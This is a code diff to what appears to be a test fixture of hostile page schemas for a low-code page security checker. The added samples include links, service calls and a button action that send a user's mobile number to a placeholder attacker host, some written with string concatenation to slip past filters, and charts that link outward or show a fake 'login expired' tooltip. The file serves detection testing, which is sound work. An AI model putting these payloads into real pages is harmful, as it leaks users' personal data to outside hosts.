@@ -96,7 +96,30 @@ const leaks = [
   { type: 'tpl', tpl: `<a href="https://${evil}/?m=\${mobile}">x</a>` },
   { type: 'image', src: `https://${evil}/\${mobile}.png` },
   { type: 'image', src: `https://${evil}/$mobile` },
+  { type: 'link', href: `\${'https://${evil}/?m=' + mobile}` },
+  { type: 'link', href: `\${CONCATENATE('https://${evil}/', mobile)}` },
+  { type: 'link', href: `\${'https:' + '//' + '${evil}/' + mobile}` },
+  { type: 'service', data: { to: `\${\`https://${evil}/\${mobile}\`}` }, body: 'x' },
+  {
+    type: 'button',
+    label: '去',
+    onEvent: {
+      click: {
+        actions: [{ actionType: 'url', args: { url: `https://${evil}`, params: { m: '${mobile}' } } }],
+      },
+    },
+  },
 ].map((element, at) => hostile(`data sent to another host, ${at + 1}`, 'outside/data-to-foreign', element));
+
+const charts = [
+  { title: { text: 'x', link: `https://${evil}`, target: 'self' } },
+  { title: { text: 'x', sublink: '/platform/x' } },
+  { series: [{ type: 'treemap', nodeClick: 'link', data: [{ value: 1, link: '${url}', target: 'self' }] }] },
+  { tooltip: { appendToBody: true, formatter: '登录已失效' } },
+  { tooltip: { appendTo: 'body' } },
+].map((config, at) =>
+  hostile(`a chart that reaches out, ${at + 1}`, 'outside/chart-reach', { type: 'chart', config }),
+);
 
 const frames = [
   `https://${evil}/`,
@@ -115,6 +138,7 @@ const frames = [
 export const linkPages: readonly HostilePage[] = [
   ...links,
   ...leaks,
+  ...charts,
   ...frames,
   hostile('a frame that brings its document', 'script/no-html-script', {
     type: 'iframe',
